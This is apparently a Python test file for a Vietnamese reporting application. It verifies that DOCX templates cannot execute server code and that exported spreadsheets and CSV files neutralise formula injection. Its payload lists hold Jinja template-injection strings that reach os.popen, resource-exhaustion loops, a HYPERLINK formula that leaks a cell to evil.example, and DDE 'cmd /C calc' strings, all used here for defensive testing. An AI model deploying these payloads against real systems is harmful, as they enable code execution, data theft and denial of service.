"""Untrusted content stays data: an office's DOCX template cannot run code in the server, and text a
person typed never becomes a live formula in an exported spreadsheet or CSV file (issue 20, items 2
and 3: the outside probe's steps)."""

from __future__ import annotations

import csv
import io
import os

import pytest
from django.core.files.base import ContentFile
from openpyxl import load_workbook

from chitieu.core import sheets
from chitieu.documents.content import ReportError
from chitieu.documents.template import build
from tests.reporting.conftest import active_plan, regime  # noqa: F401 (fixtures)

PAYLOADS = [
    "{{ cycler.__init__.__globals__.os.getpid() }}",
    "{{ joiner.__init__.__globals__['os'].getpid() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.getpid() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context }}",
    "{{ ()|attr('__class__')|attr('__base__') }}",
    "{{ '{0.__class__.__base__}'.format(title) }}",
    "{% for i in range(10000) %}{% for j in range(10000) %}x{% endfor %}{% endfor %}",
    "{{ 'x' * 1000000000 }}",
    "{{ 9 ** 9999999 }}",
    "{% set _ = sections.append(1) %}",
]


def _docx_with(text: str) -> bytes:
    doc = build()
    doc.add_paragraph(text)
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_template_payloads_are_refused_without_running(payload, people, tree, monkeypatch):
    """The upload check renders the template in the sandbox: the payload raises, nothing runs and
    nothing is stored."""
    from chitieu.documents.models import ReportTemplate
    from chitieu.documents.services import template_upload

    ran = []
    monkeypatch.setattr(os, "getpid", lambda: ran.append("getpid") or 4242)
    monkeypatch.setattr(os, "popen", lambda *a, **k: ran.append("popen"))
    with pytest.raises(ReportError, match=r"mau\.docx: Mẫu báo cáo có thẻ không"):
        template_upload(
            actor=people["root"],
            name="Độc",
            kind="unit",
            unit=None,
            file_name="mau.docx",
            data=_docx_with(payload),
        )
    assert ran == [] and not ReportTemplate.objects.exists()


def test_a_stored_template_with_a_payload_cannot_run_at_generation(people, tree, indicators, monkeypatch):
    """A template saved before the check existed (straight into the table) still cannot run: the
    report is refused with a message and no report is written."""
    from chitieu.documents.models import GeneratedReport, ReportTemplate
    from chitieu.documents.services import report_generate
    from chitieu.plans import services as plan_services

    plan = plan_services.plan_create(
        actor=people["root"],
        issuer=tree["dept"],
        title="Kế hoạch",
        number_symbol="1/KH-SNV",
        date_text="2026",
    )
    plan_services.target_create(
        actor=people["root"],
        plan=plan,
        text="Số lớp tập huấn",
        operator=">=",
        threshold=2,
        unit="count",
        indicator=indicators["count"],
        lead_unit=tree["dept"],
    )
    plan_services.plan_activate(actor=people["root"], plan=plan)
    ran = []
    monkeypatch.setattr(os, "getpid", lambda: ran.append("getpid") or 4242)
    t = ReportTemplate(name="Độc", kind="unit")
    t.file.save("mau.docx", ContentFile(_docx_with(PAYLOADS[0])), save=True)
    with pytest.raises(ReportError, match="không được phép"):
        report_generate(actor=people["root"], unit=tree["dept"], period="2026Q1")
    assert ran == [] and not GeneratedReport.objects.exists()


def test_a_harmless_template_still_renders_its_fields(people, tree):
    from chitieu.documents.render import check_template

    check_template(
        _docx_with("{{ title }} — {% for s in sections %}{{ s.heading }}{% endfor %} {{ 'ab' * 3 }}")
    )


# --- formula injection ------------------------------------------------------------------------------
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Xem chi tiết")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_cells_are_neutralised(text):
    assert sheets.is_formula_like(text)
    assert sheets.csv_cell(text).startswith("'")
    from openpyxl import Workbook

    wb = Workbook()
    sheets.append_row(wb.active, [text, 5])
    cell = wb.active["A1"]
    assert cell.data_type == "s" and cell.value == text
    assert wb.active["B1"].value == 5 and wb.active["B1"].data_type == "n"


@pytest.mark.parametrize("text", ["-5", "+3,5", "1.160", "12%", "Ghi chú bình thường", "", "a=b"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert sheets.csv_cell(text) == text


def test_control_characters_are_dropped_not_fatal():
    from openpyxl import Workbook

    wb = Workbook()
    sheets.append_row(wb.active, ["a\x01b\x00c", "dòng 1\ndòng 2"])
    assert wb.active["A1"].value == "abc" and wb.active["B1"].value == "dòng 1\ndòng 2"


@pytest.fixture
def hostile_value(active_plan, tree, people, indicators):  # noqa: F811
    from chitieu.reporting.services import value_save

    value_save(
        actor=people["reporter"],
        indicator=indicators["online"],
        unit=tree["dept"],
        period="2024Q1",
        numerator=52,
        denominator=56,
        comment=HOSTILE[0],
    )
    return HOSTILE[0]


def test_submission_excel_keeps_a_hostile_comment_as_text(client, hostile_value, people, tree):
    """The probe's step: the comment came back as a live =HYPERLINK formula in /bao-cao/<id>/excel/."""
    from chitieu.reporting.models import Submission

    s = Submission.objects.get(unit=tree["dept"], period="2024Q1")
    client.force_login(people["reporter"])
    resp = client.get(f"/bao-cao/{s.pk}/excel/")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == hostile_value]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_values_export_csv_and_xlsx_neutralise_typed_text(hostile_value, people, tmp_path):
    """`chitieu values export` and the table downloads: no cell starts a formula."""
    from chitieu.reporting import export

    text = export.to_csv(export.value_rows(people["root"], "2024Q1"))
    rows = list(csv.reader(io.StringIO(text)))
    comment_col = export.COLUMNS.index("comment")
    comments = [r[comment_col] for r in rows[1:] if r[comment_col]]
    assert comments == ["'" + hostile_value]
    assert not any(sheets.is_formula_like(c) for r in rows for c in r)
    data = export.table_to_xlsx(export.COLUMNS, export.value_rows(people["root"], "2024Q1"))
    ws = load_workbook(io.BytesIO(data)).active
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_cli_values_export_writes_no_formula(hostile_value, tmp_path):
    from chitieu.cli import main

    out = tmp_path / "so-lieu.csv"
    assert main(["values", "export", "--period", "2024Q1", "--out", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert not any(sheets.is_formula_like(c) for r in rows for c in r)
    assert any(c == "'" + hostile_value for r in rows for c in r)
